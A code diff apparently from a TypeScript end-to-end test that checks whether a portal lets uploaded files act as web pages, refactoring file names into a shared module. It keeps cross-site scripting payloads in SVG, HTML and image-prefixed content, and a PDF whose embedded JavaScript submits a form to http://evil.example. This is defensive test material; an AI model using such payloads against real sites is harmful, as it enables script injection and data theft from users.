@@ -1,3 +1,4 @@
+import { HOSTILE_NAMES, PNG } from '../../test/hostile-files.ts';
 import { expect, test } from '../fixtures/test.ts';
 import { dialog, openList, row } from '../words/lists.ts';
 
@@ -7,27 +8,16 @@ const SCRIPT =
   '<script>window.parent.harmed=true;window.harmed=true;localStorage.setItem("harmed","1")</script>';
 const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.harmed=true">${SCRIPT}</svg>`;
 const HTML = `<!doctype html><body onload="window.harmed=true">${SCRIPT}<img src=x onerror="window.harmed=true">`;
-const PNG = '\x89PNG\r\n\x1a\n';
 const PDF_WITH_SCRIPT =
   '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("http://evil.example"\\))>>/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>';
 
 const CONTENTS = [SVG, HTML, `${PNG}${HTML}`, `GIF89a${HTML}`, PDF_WITH_SCRIPT] as const;
-const NAMES = [
-  'page.html',
-  'page.htm',
-  'page.xhtml',
-  'drawing.svg',
-  'page.png',
-  'page.jpg',
-  'page.pdf',
-  'page.html.png',
-] as const;
 
 /**
  * Files that would harm the portal if it let them act as pages: each name with two contents, each content under three names
  * or more, and all that are shown as what they begin as. What each name with each content is taken for, a unit test asks.
  */
-const FILES = NAMES.flatMap((name, nameIndex) =>
+const FILES = HOSTILE_NAMES.flatMap((name, nameIndex) =>
   CONTENTS.flatMap((content, index) => {
     const isShown =
       (name.endsWith('.png') && content.startsWith(PNG)) ||
